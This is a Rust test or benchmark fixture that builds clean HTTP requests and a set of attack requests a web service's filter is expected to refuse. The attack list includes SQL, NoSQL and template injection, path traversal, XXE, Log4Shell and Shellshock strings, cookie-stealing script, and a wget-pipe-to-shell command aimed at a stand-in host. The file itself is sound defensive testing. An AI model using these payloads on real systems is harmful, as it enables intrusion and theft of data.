//! What is sent: the clean requests that are measured, and attacks that must be refused before anything is.

use axum::{body::Body, extract::Request};
use bytes::Bytes;
use http::Method;

/// A request that can be sent again and again.
pub(crate) struct Sent {
    method: Method,
    target: String,
    headers: Vec<(&'static str, String)>,
    pub(crate) body: Bytes,
}

/// Ordinary words with what ordinary prose has between them.
const PROSE: &str = "The river rises early this year, said Anna; we should move the boats (all 12 of them) before Friday.\n\
    Is that \"really\" needed? It's cheap insurance: 40 % of last year's damage was to boats; more hands -> less of it.\n\
    Select a place from the list, drop the keys at the office & write to anna@example.org or see https://example.org/a?b=c.\n";

impl Sent {
    fn new(method: Method, target: &str) -> Self {
        Self { method, target: target.to_owned(), headers: Vec::new(), body: Bytes::new() }
            .with("host", "app.example")
            .with("user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0")
            .with("accept", "application/json, text/plain, */*")
            .with("accept-language", "de-DE,de;q=0.9,en;q=0.8")
            .with("referer", "https://app.example/places?near=Lisbon&sort=name")
    }

    fn with(mut self, name: &'static str, value: &str) -> Self {
        self.headers.retain(|(known, _)| *known != name);
        self.headers.push((name, value.to_owned()));
        self
    }

    fn body(mut self, kind: &str, body: String) -> Self {
        self.body = body.into();
        let length = self.body.len().to_string();
        self.with("content-type", kind).with("content-length", &length)
    }

    fn json(self, body: String) -> Self {
        self.with("authorization", "Bearer stub").body("application/json", body)
    }

    /// The request itself.
    pub(crate) fn request(&self) -> Request {
        let mut request = Request::builder().method(&self.method).uri(&self.target);
        for (name, value) in &self.headers {
            request = request.header(*name, value);
        }
        request.body(Body::from(self.body.clone())).unwrap()
    }
}

pub(crate) fn get() -> Sent {
    Sent::new(Method::GET, "/api/v1/places?q=S%C3%A3o+Jo%C3%A3o&country=PT")
}

pub(crate) fn post() -> Sent {
    note(
        r#"{"kind":"natal","name":"Robin O'Neill","date":"1987-03-14","time":"05:47","place":"Saint-Denis","time_zone":"Indian/Reunion","text":"A first look, then (a) longer look."}"#,
    )
}

fn note(body: &str) -> Sent {
    Sent::new(Method::POST, "/api/v1/notes").json(body.to_owned())
}

pub(crate) fn post_long(field: &str) -> Sent {
    note(&serde_json::json!({ field: prose(60_000) }).to_string())
}

pub(crate) fn probe_text() -> Sent {
    Sent::new(Method::POST, "/api/v1/security/probe/notes").body("text/plain", prose(100_000))
}

pub(crate) fn probe_json() -> Sent {
    let item = |number: usize| {
        let place = ["Lisbon", "Saint-Denis", "Łódź", "O'Fallon"][number % 4];
        serde_json::json!({ "id": number, "name": "Robin", "place": place, "note": "moved here in May, likes it (mostly)" })
    };
    let items: Vec<_> = (0..1_000).map(item).collect();
    let body = serde_json::to_string(&items).unwrap();
    Sent::new(Method::POST, "/api/v1/security/probe/notes").body("application/json", body)
}

/// So many bytes of prose.
fn prose(bytes: usize) -> String {
    PROSE.chars().cycle().take(bytes).collect()
}

/// All that is measured.
pub(crate) fn clean() -> Vec<Sent> {
    vec![get(), post(), post_long("text"), post_long("notes"), probe_text(), probe_json()]
}

/// Attacks of different kinds, in different places.
pub(crate) fn attacks() -> Vec<Sent> {
    let get = |query: &str| Sent::new(Method::GET, &format!("/api/v1/places?q={query}"));
    let probe = |kind: &str, body: &str| {
        Sent::new(Method::POST, "/api/v1/security/probe/notes").body(kind, body.to_owned())
    };
    let hidden = |attack: &str| format!("{} {attack} {}", prose(50_000), prose(40_000));
    vec![
        get("7%27%20UNION%20SELECT%20name%2C%20pass%20FROM%20staff--%20-"),
        get("..%2f..%2f..%2f..%2fetc%2fpasswd"),
        get("x").with("user-agent", "${${lower:j}ndi:ldap://a.example/b}"),
        get("x").with("cookie", "theme=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
        get("x").with("referer", "() { :; }; /bin/cat /etc/passwd"),
        note(r#"{"text":"<script>fetch('//a.example/'+document.cookie)</script>"}"#),
        note(r#"{"name":"a; wget http://a.example/b -O- | sh"}"#),
        note(r#"{"name":{"$ne":null}}"#),
        note(r#"{"text":"{{ self.__init__.__globals__.__builtins__ }}"}"#),
        note(r#"{"__proto__":{"admin":true}}"#),
        probe("application/xml", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/hosts'>]><a>&b;</a>"),
        probe("text/plain", &hidden("1' OR '1'='1' UNION SELECT card FROM payments -- ")),
    ]
}

/// Whether a request has something to refuse in its head or body is told by its answer alone.
pub(crate) fn named(sent: &Sent) -> String {
    let body = String::from_utf8_lossy(&sent.body);
    format!(
        "{} {} {:?} {}",
        sent.method,
        sent.target,
        sent.headers,
        body.get(..200.min(body.len())).unwrap_or_default()
    )
}
